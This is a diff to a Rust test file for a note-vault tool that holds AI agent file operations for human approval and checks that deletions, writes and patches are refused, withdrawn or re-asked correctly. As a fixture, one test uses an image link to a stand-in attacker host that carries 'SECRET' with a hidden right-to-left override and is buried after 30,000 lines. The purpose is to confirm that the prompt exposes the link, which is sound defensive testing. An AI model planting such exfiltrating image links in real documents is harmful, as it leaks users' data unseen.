@@ -1,7 +1,7 @@
 //! What a person is asked, and what comes of their answers.
 
 use serde_json::{Value, json};
-use vault_steward::calls::{Calls, Decision, Outcome, Question, Request};
+use vault_steward::calls::{Answerer, Calls, Decision, Outcome, Question, Request};
 use vault_steward::note::code::ErrorCode;
 use vault_steward::policy::{Mode, Scope, Settings};
 use vault_steward::tools::ToolError;
@@ -29,7 +29,7 @@ fn asked(calls: &Calls, tool: &str, arguments: Value) -> Question {
 }
 
 fn say(question: Question, decision: Decision) -> Outcome {
-    question.answer(decision, "chat".to_owned(), &Cancel::default())
+    question.answer(decision, "chat".into(), &Cancel::default())
 }
 
 #[test]
@@ -37,17 +37,25 @@ fn a_folder_is_deleted_when_a_person_says_so_and_not_before() {
     let vault = ground();
     let calls = calls(&vault, Settings::default());
     let question = || asked(&calls, "delete", json!({"path": "old"}));
-    for decision in [Decision::Reject, Decision::Nobody, Decision::Late, Decision::Withdrawn] {
+    for (decision, says) in [
+        (Decision::Reject, "a person refused it and said \"why?\": delete `Old`, since it deletes"),
+        (Decision::Late, "nobody answered: delete `Old`, since it deletes"),
+        (Decision::Withdrawn, "the call was withdrawn before a person agreed: delete `Old`"),
+        (Decision::Crowded, "too many questions wait for a person already"),
+    ] {
         let first = question();
         assert_eq!(first.title(), "delete `Old`");
         assert_eq!(first.reasons(), ["it deletes the folder `Old` with 2 files"]);
         assert_eq!(audited(&calls).last().unwrap().decision, "asked");
-        let error = answered(say(first, decision)).unwrap_err();
+        let by = Answerer { words: "why?".to_owned(), ..Answerer::from("chat") };
+        let error = answered(first.answer(decision, by, &Cancel::default())).unwrap_err();
         let wanted = match decision {
             Decision::Withdrawn => ErrorCode::Cancelled,
+            Decision::Crowded => ErrorCode::RateLimited,
             _ => ErrorCode::Denied,
         };
         assert_eq!(error.code, wanted);
+        assert!(error.message.starts_with(says), "{}", error.message);
         assert!(vault.exists("Old/a.md"), "{decision:?}");
         let row = audited(&calls).pop().unwrap();
         assert_eq!(row.decision, "refused");
@@ -58,6 +66,44 @@ fn a_folder_is_deleted_when_a_person_says_so_and_not_before() {
     let row = audited(&calls).pop().unwrap();
     assert_eq!((row.decision.as_str(), row.answered_by.as_deref()), ("allowed", Some("chat")));
     assert!(row.change_set.is_some());
+}
+
+#[test]
+fn a_call_that_is_over_leaves_its_question_open_until_it_is_decided() {
+    let vault = ground();
+    let calls = calls(&vault, Settings::default());
+    let first = asked(&calls, "delete", json!({"path": "Old"}));
+    let (number, left) = (first.number(), first.left());
+    let pending = |question| Decision::Pending { question, shown: false };
+    let error = answered(say(first, pending(number))).unwrap_err();
+    assert_eq!(error.code, ErrorCode::ApprovalPending);
+    let row = audited(&calls).pop().unwrap();
+    assert_eq!((row.id, row.decision.as_str(), row.outcome), (number, "asked", None));
+    // One that shares it is over itself.
+    let second = asked(&calls, "delete", json!({"path": "Old"}));
+    answered(say(second, pending(number))).unwrap_err();
+    let row = audited(&calls).pop().unwrap();
+    assert_eq!(
+        (row.decision.as_str(), row.outcome.as_deref()),
+        ("refused", Some("approval_pending"))
+    );
+
+    left.settle(Decision::Once, &Answerer::from("chat"));
+    let row = audited(&calls).pop().unwrap();
+    assert_eq!((row.decision.as_str(), row.answered_by.as_deref()), ("allowed", Some("chat")));
+    assert!(audited(&calls).iter().all(|row| row.decision != "asked"));
+    assert!(vault.exists("Old/a.md"));
+    let third = asked(&calls, "delete", json!({"path": "Old"}));
+    third.left().settle(Decision::Late, &Answerer::default());
+    let row = audited(&calls).pop().unwrap();
+    assert_eq!(
+        (row.decision.as_str(), row.reason.as_deref()),
+        ("refused", Some("nobody answered"))
+    );
+    // A yes for another call like it has this one judged anew, as things are then.
+    answered(say(asked(&calls, "delete", json!({"path": "Old"})), Decision::Once)).unwrap();
+    let error = answered(say(third, Decision::Anew)).unwrap_err();
+    assert_eq!(error.code, ErrorCode::NotFound);
 }
 
 #[test]
@@ -78,6 +124,77 @@ fn agreement_is_to_what_was_shown_and_to_nothing_else() {
     vault.context.vault.rescan().unwrap();
     answered(say(question, Decision::Once)).unwrap_err();
     assert!(vault.exists("Old/a.md"));
+}
+
+#[test]
+fn a_folder_in_which_a_file_changed_since_is_asked_about_again() {
+    let vault = ground();
+    let calls = calls(&vault, Settings::default());
+    let question = asked(&calls, "delete", json!({"path": "Old"}));
+    vault.put("Old/a.md", "z\n");
+    let error = answered(say(question, Decision::Once)).unwrap_err();
+    assert_eq!(error.code, ErrorCode::StaleRevision);
+    assert!(vault.exists("Old/a.md"));
+    answered(say(asked(&calls, "delete", json!({"path": "Old"})), Decision::Once)).unwrap();
+}
+
+#[test]
+fn everything_that_loads_by_itself_is_named_and_every_line_can_be_seen() {
+    let vault = ground();
+    let calls = calls(&vault, Settings::default());
+    let lines = "a line\n".repeat(30_000);
+    let logo = "![logo](https://example.com/logo.png)\n";
+    let evil = "![x](https://evil.example/?d=SE\u{202e}CRET)\n";
+    let content = format!("{logo}{lines}{evil}");
+    let question = asked(&calls, "write_file", json!({"path": "new.md", "content": content}));
+    let reason = |line, address| {
+        format!(
+            "it puts into `new.md`, line {line}, what loads or runs by itself: the image `{address}`"
+        )
+    };
+    assert_eq!(
+        question.reasons(),
+        [
+            reason(1, "https://example.com/logo.png"),
+            reason(30_002, "https://evil.example/?d=SECRET"),
+        ]
+    );
+    let change = &question.changes()[0];
+    assert_eq!((change.added, change.removed), (30_002, 0));
+    assert!(change.more > 29_000, "{}", change.more);
+    let (mut diff, mut first) = (String::new(), Some(0));
+    while let Some(at) = first {
+        let part = change.part(at);
+        diff.push_str(&part.text);
+        first = part.next;
+    }
+    assert_eq!(
+        diff,
+        format!(
+            "--- a/new.md\n+++ b/new.md\n@@ -0,0 +1,30002 @@\n+{}",
+            content.trim_end().replace('\n', "\n+")
+        ) + "\n"
+    );
+    // As many files as there are, each is named and counted.
+    let patch: String =
+        (0..60).map(|n| format!("--- /dev/null\n+++ b/p{n}.md\n@@ -0,0 +1 @@\n+{evil}")).collect();
+    let question = asked(&calls, "apply_patch", json!({"patch": patch}));
+    assert_eq!(question.reasons().iter().filter(|why| why.contains("evil.example")).count(), 60);
+    assert!(question.changes().iter().all(|change| change.added == 1));
+    assert!(question.changes().iter().all(|change| change.part(0).text.contains("evil")));
+}
+
+#[test]
+fn a_file_that_is_renamed_to_something_that_runs_is_asked_about() {
+    let vault = vault(&[("code.txt", "alert(1)\n"), ("page.txt", "![](https://x.example)\n")]);
+    let calls = calls(&vault, Settings::default());
+    for (source, destination) in [("code.txt", "code.js"), ("page.txt", "page.md")] {
+        let question = asked(&calls, "move", json!({"source": source, "destination": destination}));
+        assert!(question.reasons()[0].contains("loads or runs by itself"), "{destination}");
+    }
+    let request =
+        request(Scope::Client, "move", json!({"source": "page.txt", "destination": "other.txt"}));
+    answered(calls.call(request, &Cancel::default())).unwrap();
 }
 
 #[test]
@@ -134,7 +251,7 @@ fn what_loads_by_itself_is_asked_about_in_the_usual_mode() {
     ] {
         let question = asked(&calls, tool, arguments);
         assert!(question.reasons()[0].contains("loads or runs by itself"));
-        answered(say(question, Decision::Nobody)).unwrap_err();
+        answered(say(question, Decision::Late)).unwrap_err();
     }
     assert_eq!(vault.snapshot(), before);
     let person = request(Scope::Person, "write_file", json!({"path": "n.md", "content": remote}));
